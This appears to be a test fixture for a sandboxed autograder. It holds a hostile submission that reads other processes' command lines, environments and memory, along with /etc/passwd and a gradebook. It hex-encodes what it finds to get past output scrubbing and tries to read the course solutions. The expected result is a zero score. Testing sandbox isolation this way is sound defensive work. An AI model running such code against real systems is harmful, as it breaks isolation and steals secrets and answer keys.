"""Looking for the grader in /proc and in the mounts: the command lines, environments, working
folders, roots and memory of other processes, and where this sandbox's files come from.

What it finds is printed hex-encoded, so that no scrubbing of paths in the outputs can hide a
leak; a path to the course, if found, is used to read the solutions. Under bubblewrap /proc
shows only the sandbox's own processes, and no mount or command line names the course
directory (the files students receive are staged outside it); under Landlock alone /proc cannot
be read at all. dJ_dx is left unanswered, to be replaced from the solutions; dJ_dx and backward
score 0, and the course's path appears nowhere in what the student gets back.
"""

from . import ATTEMPT

OVERRIDES = {"dJ_dx": ATTEMPT + r'''
import os
import re

found = []


def look(path, size=100_000):
    with open(path, "rb") as source:
        data = source.read(size)
    found.append(data)
    return data


for path in ("/proc/self/mountinfo", "/proc/1/cmdline", "/proc/self/environ",
             "/proc/1/environ", "/proc/self/cgroup", "/etc/passwd", "/etc/hostname"):
    attempt(f"read {path}", lambda: look(path))
for pid in attempt("list /proc", lambda: sorted(p for p in os.listdir("/proc") if p.isdigit()))\
        or []:
    for part in ("cmdline", "environ", "status"):
        attempt(f"read /proc/{pid}/{part}", lambda: look(f"/proc/{pid}/{part}"))
    for link in ("cwd", "root", "exe"):
        attempt(f"readlink /proc/{pid}/{link}", lambda: found.append(
            os.readlink(f"/proc/{pid}/{link}").encode()))
    attempt(f"list /proc/{pid}/cwd", lambda: os.listdir(f"/proc/{pid}/cwd"))
    attempt(f"read /proc/{pid}/cwd/gradebook.db", lambda: look(f"/proc/{pid}/cwd/gradebook.db"))


def read_memory(pid):
    with open(f"/proc/{pid}/maps") as maps:
        start, end = (int(a, 16) for a in maps.readline().split()[0].split("-"))
    with open(f"/proc/{pid}/mem", "rb") as memory:
        memory.seek(start)
        return memory.read(min(end - start, 65536))


for pid in (1, os.getppid()):
    attempt(f"read the memory of {pid}", lambda: found.append(read_memory(pid)))

dump = b"\n".join(found)
paths = sorted(set(re.findall(rb"/[\w.@+-][\w./@+-]{2,}", dump)))
print(f"[attack] {len(paths)} paths found, in hex:", b" ".join(paths).hex()[:15_000])
for candidate in sorted(set(re.findall(rb"(/[\w./-]+?)/(?:notebooks|solutions|submitted)/",
                                       dump))):
    text = attempt(f"read the solutions under {candidate.hex()}", lambda: open(
        candidate.decode() + "/solutions/2_backprop/backprop.ipynb").read())
    if text:
        steal(text)

if "dJ_dx" not in globals():
    def dJ_dx(delta2, W):
        raise NotImplementedError()
'''}
EXPECTED = {"zero": ["test_dJ_dx", "test_backward"], "status": "graded", "flags": []}
